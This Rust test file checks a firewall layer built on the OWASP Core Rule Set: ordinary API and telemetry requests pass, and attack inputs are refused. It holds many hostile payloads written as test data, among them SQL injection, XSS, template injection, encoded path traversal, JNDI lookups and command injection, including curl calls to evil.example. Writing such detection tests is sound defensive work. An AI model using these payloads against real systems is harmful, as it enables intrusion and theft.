//! CRS with the defaults of Glacis and with its own: what browsers, telemetry and APIs send passes, attacks in it do not,
//! and `crs` changes nothing.
//!
//! CRS is not in the repository. `cargo xtask fetch` brings it.
#![allow(clippy::unwrap_used, clippy::panic, reason = "a test ends at what it did not expect")]
#![allow(clippy::disallowed_methods, reason = "the test reads a document")]

use std::{fs, net::Ipv4Addr, path::PathBuf, sync::Arc, time::Duration};

use glacis_engine::{Endpoint, Limits, Program, Start, Transaction};
use glacis_rules::{Assembly, CrsSettings, Defaults, ExclusionRules, RecordingSource};

fn program(defaults: Defaults, setup: &str) -> Arc<Program> {
    let crs = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../.fetched/crs-4.25.0");
    let source = RecordingSource::default();
    let assembly = Assembly {
        base: true,
        crs: Some(&crs),
        defaults,
        setup,
        settings: CrsSettings::default(),
        graphql: "",
        openapi: "",
        exclusions: &ExclusionRules::default(),
        files: &[],
        directives: "",
        limits: "",
    };
    let found = assembly.assemble(&source);
    let found = found.unwrap_or_else(|error| panic!("{error}: run `cargo xtask fetch`"));
    Arc::new(Program::build(&found.inputs, &source, Limits::default()).unwrap())
}

/// A request: method, further header fields, body.
type Row<'a> = (&'a str, &'a [(&'a str, &'a str)], &'a [u8]);

fn is_blocked(program: &Arc<Program>, uri: &str, &(method, fields, body): &Row<'_>) -> bool {
    let mut transaction = Transaction::new(Arc::clone(program));
    let endpoint = Endpoint { address: Ipv4Addr::LOCALHOST.into(), port: 80 };
    let time = Duration::from_secs(1_700_000_000);
    transaction.start(&Start { unique_id: "1", time, client: endpoint, server: endpoint });
    transaction.request_line(method.as_bytes(), uri.as_bytes(), b"HTTP/1.1");
    let length = body.len().to_string();
    let usual = [("Host", "shop.example"), ("User-Agent", "Mozilla/5.0"), ("Accept", "*/*")];
    let length = [("Content-Length", length.as_str())];
    for (name, value) in usual.iter().chain(&length[..usize::from(!body.is_empty())]).chain(fields)
    {
        transaction.request_header(name.as_bytes(), value.as_bytes());
    }
    transaction.evaluate_request_headers();
    transaction.request_body(body);
    transaction.evaluate_request_body();
    transaction.verdict().refusal().is_some()
}

/// What CRS refuses by its own defaults, and what is ordinary today.
const ORDINARY: &[Row<'_>] = &[
    ("PUT", &[("Content-Type", "application/json")], b"{\"name\":\"Anna\"}"),
    ("PATCH", &[("Content-Type", "application/merge-patch+json")], b"{\"name\":null}"),
    ("DELETE", &[], b""),
    ("POST", &[("Content-Type", "text/plain;charset=UTF-8")], b"{\"event\":\"view\",\"ms\":12}"),
    ("POST", &[("Content-Type", "text/plain")], b"hello"),
    ("POST", &[("Content-Type", "text/ping")], b"PING"),
    ("POST", &[("Content-Type", "application/csp-report")], b"{\"csp-report\":{\"line\":1}}"),
    ("POST", &[("Content-Type", "application/reports+json")], b"[{\"type\":\"crash\",\"age\":1}]"),
    ("POST", &[("Content-Type", "application/x-ndjson")], b"{\"a\":1}\n{\"a\":2}\n"),
    ("POST", &[("Content-Type", "application/x-amz-json-1.1")], b"{\"StreamName\":\"clicks\"}"),
    ("POST", &[("Content-Type", "application/vnd.api+json; charset=utf-8")], b"{\"data\":[]}"),
    ("POST", &[("Content-Type", "application/x-protobuf")], b"\x0a\x03abc\x10\x01"),
    ("POST", &[("Content-Type", "application/octet-stream")], b"{\"a\":1}"),
    ("POST", &[("Content-Type", "application/json;charset=utf8")], b"{\"a\":1}"),
    ("POST", &[("Content-Type", "image/png")], b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"),
    ("POST", &[("Content-Type", "application/json"), ("Expect", "100-continue")], b"{\"a\":1}"),
];

#[test]
fn ordinary_requests_pass() {
    let (ours, plain) = (program(Defaults::Glacis, ""), program(Defaults::Crs, ""));
    for row in ORDINARY {
        assert!(!is_blocked(&ours, "/api/items", row), "{row:?}");
        assert!(is_blocked(&plain, "/api/items", row), "CRS by itself: {row:?}");
    }
    let graphql: Row<'_> = (
        "POST",
        &[("Content-Type", "application/json")],
        b"{\"query\":\"query P($first: Int!) { items(first: $first) { edges { node { id } } } }\"}",
    );
    assert!(!is_blocked(&ours, "/graphql", &graphql) && is_blocked(&plain, "/graphql", &graphql));
    let link = "/p?sessionid=42&x=1";
    let referer = [("Referer", "https://news.example/")];
    assert!(!is_blocked(&ours, link, &("GET", &referer, b"")));
    assert!(is_blocked(&plain, link, &("GET", &referer, b"")));
}

/// What may carry text is read: the same attack is refused in each type.
#[test]
fn attacks_in_these_types_are_refused() {
    const SQL: &str = "1' UNION SELECT login, password FROM users-- -";
    const XSS: &str = "<script>alert(document.cookie)</script>";
    let ours = program(Defaults::Glacis, "");
    for attack in [SQL, XSS] {
        let json = format!("{{\"a\":\"{attack}\"}}");
        let lines = format!("{{\"b\":1}}\n{json}\n");
        let form = format!("a={}", attack.replace(' ', "+"));
        for (media_type, body) in [
            ("application/csp-report", &json),
            ("application/reports+json", &json),
            ("application/vnd.api+json", &json),
            ("application/x-amz-json-1.0", &json),
            ("application/x-ndjson", &lines),
            ("application/json-seq", &lines),
            ("text/plain", &json),
            ("text/plain;charset=UTF-8", &form),
            ("text/plain", &attack.to_owned()),
            ("application/octet-stream", &json),
            ("application/graphql", &json),
        ] {
            let fields = [("Content-Type", media_type)];
            let row: Row<'_> = ("POST", &fields, body.as_bytes());
            assert!(is_blocked(&ours, "/api/items", &row), "{media_type}: {body}");
        }
        for body in [&json, &form, &attack.to_owned()] {
            assert!(is_blocked(&ours, "/", &("POST", &[], body.as_bytes())), "no type: {body}");
        }
    }
}

/// What CRS is right to refuse stays so, and so does what `crs-setup.conf` sets.
#[test]
fn the_rest_is_refused() {
    let ours = program(Defaults::Glacis, "");
    for row in [
        ("TRACE", &[][..], &b""[..]),
        ("POST", &[("Content-Type", "application/x-java-serialized-object")], b"x"),
        ("POST", &[("Content-Type", "application/json;charset=utf-7")], b"{}"),
        ("POST", &[("Content-Type", "application/ujson")], b"{}"),
        ("GET", &[("Proxy", "a")], b""),
        ("GET", &[("X-HTTP-Method-Override", "DELETE")], b""),
        // JSON of a type that says so has to be JSON.
        ("POST", &[("Content-Type", "application/x-ndjson")], b"{\"a\":1}\n{b"),
    ] {
        assert!(is_blocked(&ours, "/", &row), "{row:?}");
    }
    let setup = "SecAction \"id:900200,phase:1,pass,nolog,setvar:'tx.allowed_methods=GET'\"\n\
         SecAction \"id:900220,phase:1,pass,nolog,\
         setvar:'tx.allowed_request_content_type=|application/json|'\"";
    let own = program(Defaults::Glacis, setup);
    for row in [
        ("DELETE", &[][..], &b""[..]),
        ("POST", &[("Content-Type", "text/plain")], b"hello"),
        ("GET", &[("Content-Type", "application/vnd.api+json")], b"{}"),
    ] {
        assert!(is_blocked(&own, "/", &row), "{row:?}");
    }
}

/// Values of ordinary traffic in which CRS by itself finds one signal.
const WEAK: &[&str] = &[
    "/t?nt_cinf=http/1.1",
    "/concat/??/css/a.css,/css/b.css",
    "/t?loc=window.history",
    "/app/config.json",
    "/static/sys/pixel.gif",
    "/t?page=https%3A%2F%2Fads.example%2Factivity;ord=1?",
    "/t?referrer=%24%7Breferer_url%7D",
    "/t?id=~-7c0t5ybvo_u9c3udqldo_yxii5kdm",
    "/t?sid=9eQhzPGwFHs0x9VGs2tla!320502919!-235010274",
    "/t?scp=stype%3Droot%26url%3Dwww.%26ref%3D%26adv%3D%26pos%3Dboard1%26c%3D%26id%3D37",
    // The same rule in two values is still one signal.
    "/t?scp=stype%3Droot%26url%3Dwww.%26ref%3D%26adv%3D%26pos%3Dboard1%26c%3D%26id%3D37\
     &scq=stype%3Droot%26url%3Dwww.%26ref%3D%26adv%3D%26pos%3Dboard1%26c%3D%26id%3D38",
    "/t?n=2147483648",
    "/t?html=%3Cdiv%3E%3Cform%20action%3D%22%22%20method%3D%22post%22%3E",
    "/t?modules=core,modules%24size,modules%24state",
];

#[test]
fn one_weak_signal_does_not_block() {
    let (ours, plain) = (program(Defaults::Glacis, ""), program(Defaults::Crs, ""));
    for uri in WEAK {
        assert!(!is_blocked(&ours, uri, &("GET", &[], b"")), "{uri}");
        assert!(is_blocked(&plain, uri, &("GET", &[], b"")), "CRS by itself: {uri}");
    }
}

#[test]
fn two_of_them_do_and_so_does_a_strong_one() {
    let ours = program(Defaults::Glacis, "");
    for uri in [
        // Commands, and a perl that is given a program.
        "/t?q=%7C%20perl%20-e%20%27print%20%22X%22%27",
        "/t?a=http/1.1&b=2147483648&c=%24%7Bname%7D",
        "/t?q=%2Fetc%2Fpasswd",
        "/t?q=1%27%20or%20%271%27%3D%271",
        "/.git/config",
        "/t?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
        "/t?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D",
    ] {
        assert!(is_blocked(&ours, uri, &("GET", &[], b"")), "{uri}");
    }
}

/// Each rule that counts for less adds a critical score in CRS, by itself or by a rule of its chain: that score is what is
/// moved.
#[test]
fn weak_rules_are_critical_ones_of_the_first_level() {
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
    let weak = fs::read_to_string(root.join("base/weak.conf")).unwrap();
    let folder = root.join("../.fetched/crs-4.25.0/rules");
    let mut crs = String::new();
    for file in fs::read_dir(folder).unwrap() {
        let path = file.unwrap().path();
        if path.extension().is_some_and(|extension| extension == "conf") {
            crs.push_str(&fs::read_to_string(path).unwrap());
        }
    }
    let ids: Vec<&str> = weak
        .lines()
        .filter_map(|line| line.strip_prefix("SecRuleMoveSetvar "))
        .filter_map(|rest| rest.split_whitespace().next())
        .collect();
    assert!(ids.len() > 15, "{ids:?}");
    for id in ids {
        let at = crs.find(&format!("\"id:{id},")).unwrap_or_else(|| panic!("{id} is not in CRS"));
        let rule = crs[at..].split("\nSecRule").next().unwrap();
        let adds = "setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'";
        assert!(rule.contains(adds), "{id}: {rule}");
    }
}

/// People give files names with quotes and semicolons, and clients send them as they are or percent-encoded. What is an
/// attack as a text is one as the name of a file.
#[test]
fn names_of_files_are_judged_as_texts_are() {
    let (ours, plain) = (program(Defaults::Glacis, ""), program(Defaults::Crs, ""));
    let form = [("Content-Type", "multipart/form-data; boundary=b")];
    let body = |name: &str, more: &str| {
        format!(
            "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{name}\"\r\n\
             Content-Type: image/png\r\n\r\nx\r\n--b--\r\n{more}"
        )
    };
    for name in [
        "O'Brien.txt",
        "Anna's %22final%22; report=2.pdf",
        "Anna's \\\"final\\\"; report=2.pdf",
        "Anna%27s%20%22final%22%3B%20report%3D2.pdf",
        "cats & dogs (1).png",
        "invoice; 2026-11-23.pdf",
        "a=b.csv",
    ] {
        let body = body(name, "");
        assert!(!is_blocked(&ours, "/", &("POST", &form, body.as_bytes())), "{name}");
    }
    let mut missed = 0;
    for name in [
        "<img src=x onerror=alert(1)>.png",
        "%22><script>alert(1)</script>.png",
        "1' or '1'='1.png",
        "x' union select password from users-- -.png",
        "$(cat /etc/passwd).png",
        "; curl http://evil.example/x;.png",
        "{{1337*1338}}.png",
        "../../etc/passwd",
    ] {
        let body = body(name, "");
        assert!(is_blocked(&ours, "/", &("POST", &form, body.as_bytes())), "{name}");
        missed += u32::from(!is_blocked(&plain, "/", &("POST", &form, body.as_bytes())));
    }
    assert!(missed > 1, "CRS by itself misses {missed}");
    // Some clients write an empty line behind the last boundary. Anything else there is refused.
    for (more, blocked) in
        [("\r\n", false), ("\r\n\r\n", false), ("x", true), ("\r\n--b\r\n", true)]
    {
        let body = body("a.png", more);
        assert_eq!(is_blocked(&ours, "/", &("POST", &form, body.as_bytes())), blocked, "{more:?}");
    }
}

/// Bytes that a script of a page sends have no media type; what they say is judged as text.
#[test]
fn a_body_without_a_media_type_is_one_weak_signal() {
    let (ours, plain) = (program(Defaults::Glacis, ""), program(Defaults::Crs, ""));
    let length = |body: &[u8]| body.len().to_string();
    for (body, blocked) in [
        (&b"{\"a\":1}"[..], false),
        (b"\x08\x01\x12\x03abc", false),
        (b"x=1 union select password from users-- -", true),
        (b"{\"q\":\"<img src=x onerror=alert(1)>\"}", true),
    ] {
        let length = length(body);
        let row: Row<'_> = ("POST", &[("Content-Length", &length)], body);
        assert_eq!(is_blocked(&ours, "/", &row), blocked, "{body:?}");
        assert!(is_blocked(&plain, "/", &row), "CRS by itself: {body:?}");
    }
}

/// `../` as lenient decoders read it, in an argument of a form, where CRS sees decoded bytes.
#[test]
fn traversal_in_unusual_encodings_is_refused() {
    let (ours, plain) = (program(Defaults::Glacis, ""), program(Defaults::Crs, ""));
    let form = [("Content-Type", "application/x-www-form-urlencoded")];
    let mut missed = 0;
    for spelling in [
        "%c0%ae%c0%ae%c0%af",
        "%c0%5e%c0%5e/",
        "%fc%80%80%80%80%ae%fc%80%80%80%80%ae/",
        "%e0%80%ae%e0%80%ae%5c",
        "..%c1%9c",
        "..%u2215",
        "%uff0e%uff0e/",
        "..%ef%bc%8f",
        "%25c0%25ae%25c0%25ae%25c0%25af",
    ] {
        let body = format!("f={spelling}{spelling}x");
        let row: Row<'_> = ("POST", &form, body.as_bytes());
        assert!(is_blocked(&ours, "/", &row), "{spelling}");
        missed += u32::from(!is_blocked(&plain, "/", &row));
    }
    assert!(missed > 2, "CRS by itself misses {missed}");
    for ordinary in ["wait%2E%2E.%2Fok", "see%20a/..%20b", "100%25%20u%2F2215", "what%3F%3F/x"] {
        let body = format!("f={ordinary}");
        assert!(!is_blocked(&ours, "/", &("POST", &form, body.as_bytes())), "{ordinary}");
    }
}

/// Attacks that the first level of CRS lets through, and what looks like them.
#[test]
fn attacks_that_crs_does_not_look_for_are_refused() {
    let (ours, plain) = (program(Defaults::Glacis, ""), program(Defaults::Crs, ""));
    let mut missed = 0;
    for attack in [
        "*(%7C(objectclass=*))",
        "admin)(%26(password=*",
        "%0d%0aRCPT%20TO:%20test@evil.example%0d%0a",
        "%0d%0aV100%20CAPABILITY%0d%0aV101%20FETCH%204791",
        "true,%20%24where:%20'99%20==%2088'",
        "%7B%7B1337*1338%7D%7D",
        "%7B%25%20set%20x%20=%20a.__class__%20%25%7D",
        "(alert)(1)",
        "alert.apply(null,%20%5B1%5D)",
        "top%5B'al'+'ert'%5D(1)",
        "!!python/object/new:exec%20%5Bimport%20socket%5D",
        "%5C%5C::1%5Cc$%5Cusers%5Cdefault%5Cntuser.dat",
    ] {
        let uri = format!("/t?q={attack}");
        assert!(is_blocked(&ours, &uri, &("GET", &[], b"")), "{attack}");
        missed += u32::from(!is_blocked(&plain, &uri, &("GET", &[], b"")));
    }
    assert!(missed > 7, "CRS by itself misses {missed}");
    for ordinary in [
        "(see%20note)%20(and%20more)",
        "a%20(b%20%7C%20c)",
        "Dear%20all,%0d%0aquit%20smoking%20in%20May",
        "price:%20%24in%20stock",
        "%7B%7Buser.name%7D%7D%20and%20%24%7Bfirst%20name%7D",
        "red%20alert,%20confirm:%20(two)%20(parts)",
        "%5C%5Cserver%5Cshare%5Cdocs",
        "%7B%22type%22:%22Point%22%7D",
        "%7B%22@type%22:%22Person%22%7D",
        "7*7",
    ] {
        let uri = format!("/t?q={ordinary}");
        assert!(!is_blocked(&ours, &uri, &("GET", &[], b"")), "{ordinary}");
    }
}

/// SQL, commands, files and objects in forms that the first level of CRS does not look for, and text that resembles them.
#[test]
fn statements_and_commands_are_refused() {
    let (ours, plain) = (program(Defaults::Glacis, ""), program(Defaults::Crs, ""));
    let mut missed = 0;
    for attack in [
        "1%20where%204844%20%20=%20%204844",
        "'/**/And/**/7485=(seLEct/**/couNt(*)/**/frOm/**/ALL_USERS/**/T1,ALL_USERS/**/T2)--",
        "%20ORDER%20BY%2031337%23",
        "1;call%20regexp_substring(repeat(right(char(3702),0),500000000),null)",
        "iif(7889=5114,1,1/0)",
        "'%20or%20json_length('%7B%7D')%20%3C=%208896",
        "%26%20sleep%200%20%26%26%20str=$(echo%20X)%20%26%26%20%5B%202%20-eq%20$%7Bstr1%7D%20%5D",
        "%7C%7Cecho$IFSZIARXP$((32%2B15))",
        "%3B%20curl%20http://evil.example/x",
        "%26%26%20dir",
        "%7C%20ping%20-n%2021%20127.0.0.1",
        "perl%20-e%20'print%201'",
        "/???/??t%20/etc",
        "page//var/log/ftplog",
        "%5Clog%5Chttpd%5Cerror_log",
        "request.__class__",
    ] {
        let uri = format!("/t?q={attack}");
        assert!(is_blocked(&ours, &uri, &("GET", &[], b"")), "{attack}");
        missed += u32::from(!is_blocked(&plain, &uri, &("GET", &[], b"")));
    }
    assert!(missed > 3, "CRS by itself misses {missed}");
    for ordinary in [
        "where%20is%20room%204844%20or%20204",
        "sort%20by%20price,%20group%20by%20size",
        "Select%20one%20(or%20two)%20from%20the%20list",
        "cats%20%26%20dogs;%20find%20them%20here",
        "R%26D;%20type%20B",
        "Q%26A;%20ping%20me",
        "wait%20and%20sleep%20well",
        "https://example.com/blog/etc/2026",
        "curl",
        "a%20class%20of%20__2026__",
        "midp-2.0;%20u;%20adr%204.2.2;%20id;%20r1001",
        "1-691-208--2089-2089-2089-983",
    ] {
        let uri = format!("/t?q={ordinary}");
        assert!(!is_blocked(&ours, &uri, &("GET", &[], b"")), "{ordinary}");
    }
    assert!(!is_blocked(&ours, "/ad/www.example.com", &("GET", &[], b"")));
    assert!(is_blocked(&plain, "/ad/www.example.com", &("GET", &[], b"")));
}

/// Header fields of applications, and segments of a path.
#[test]
fn attacks_in_other_places_are_refused() {
    let (ours, plain) = (program(Defaults::Glacis, ""), program(Defaults::Crs, ""));
    let mut missed = 0;
    for attack in [
        "1' or 1=1 -- -",
        "1 union all select 1,2,3",
        "<svg onload=alert(1)>",
        "; cat /etc/passwd",
        "{{7*7}}",
        "<?php system('id'); ?>",
    ] {
        let header = [("X-Filter", attack)];
        assert!(is_blocked(&ours, "/", &("GET", &header, b"")), "{attack}");
        missed += u32::from(!is_blocked(&plain, "/", &("GET", &header, b"")));
        let path = attack.replace(' ', "%20").replace('?', "%3F").replace('{', "%7B");
        let uri = format!("/items/{path}");
        assert!(is_blocked(&ours, &uri, &("GET", &[], b"")), "{uri}");
        missed += u32::from(!is_blocked(&plain, &uri, &("GET", &[], b"")));
    }
    assert!(missed > 5, "CRS by itself misses {missed}");
    for (name, value) in [
        ("X-Request-Id", "1' or 1=1"),
        ("X-Csrf-Token", "Zm9v--bar+baz/qux=="),
        ("X-Client-Data", "CIa2yQEIo7bJAQipncoBCKijygEIlKHLAQ=="),
        ("X-Requested-With", "XMLHttpRequest"),
        ("X-Newrelic-Id", "VQYGVF5SCBADUVBRBgAFVg=="),
        ("X-Amz-Date", "20260102T030405Z"),
        ("X-Client-Version", "shop/4.2 (iOS 18; and; 2 more)"),
    ] {
        assert!(!is_blocked(&ours, "/", &("GET", &[(name, value)], b"")), "{name}: {value}");
    }
    for uri in
        ["/select/from/union", "/api/users/1;v=2", "/docs/where-2-eat", "/w/index.php/A_or_B"]
    {
        assert!(!is_blocked(&ours, uri, &("GET", &[], b"")), "{uri}");
    }
}

/// `1' UNION SELECT login, password FROM users-- -`, encoded.
#[test]
fn attacks_in_nested_encodings_are_refused() {
    let (ours, plain) = (program(Defaults::Glacis, ""), program(Defaults::Crs, ""));
    let json = [("Content-Type", "application/json")];
    const BASE64: &str = "MScgVU5JT04gU0VMRUNUIGxvZ2luLCBwYXNzd29yZCBGUk9NIHVzZXJzLS0gLQ==";
    let uri = format!("/?q={}", BASE64.replace('=', "%3D"));
    let body = format!("{{\"records\":[{{\"data\":\"{BASE64}\"}}]}}");
    let cookie = format!("state={}", BASE64.replace('=', "%3D"));
    for (program, is_expected) in [(&ours, true), (&plain, false)] {
        assert_eq!(is_blocked(program, &uri, &("GET", &[], b"")), is_expected);
        let row: Row<'_> = ("POST", &json, body.as_bytes());
        assert_eq!(is_blocked(program, "/", &row), is_expected);
        assert_eq!(is_blocked(program, "/", &("GET", &[("Cookie", &cookie)], b"")), is_expected);
    }
}

/// The document has a row for each rule.
#[test]
fn the_reference_names_every_rule() {
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
    let read = |path: &str| fs::read_to_string(root.join(path)).unwrap();
    let rules = read("base/defaults.conf") + &read("base/attacks.conf");
    let weak = read("base/weak.conf");
    let reference = fs::read_to_string(root.join("../docs/reference/defaults.md")).unwrap();
    let ids = rules.split("id:").skip(1).map(|rest| &rest[..6]);
    let removed = rules.lines().filter_map(|line| line.strip_prefix("SecRuleRemoveById "));
    let mut rows = 0;
    let updated =
        weak.lines().filter_map(|line| line.strip_prefix("SecRuleMoveSetvar ")?.split(' ').next());
    for id in ids.chain(removed.flat_map(str::split_whitespace)).chain(updated) {
        let is_named = reference.lines().any(|line| {
            line.starts_with('|') && line.split('|').nth(1).is_some_and(|cell| cell.contains(id))
        });
        assert!(is_named, "{id} is not in the reference");
        rows += 1;
    }
    assert!(rows > 9);
}
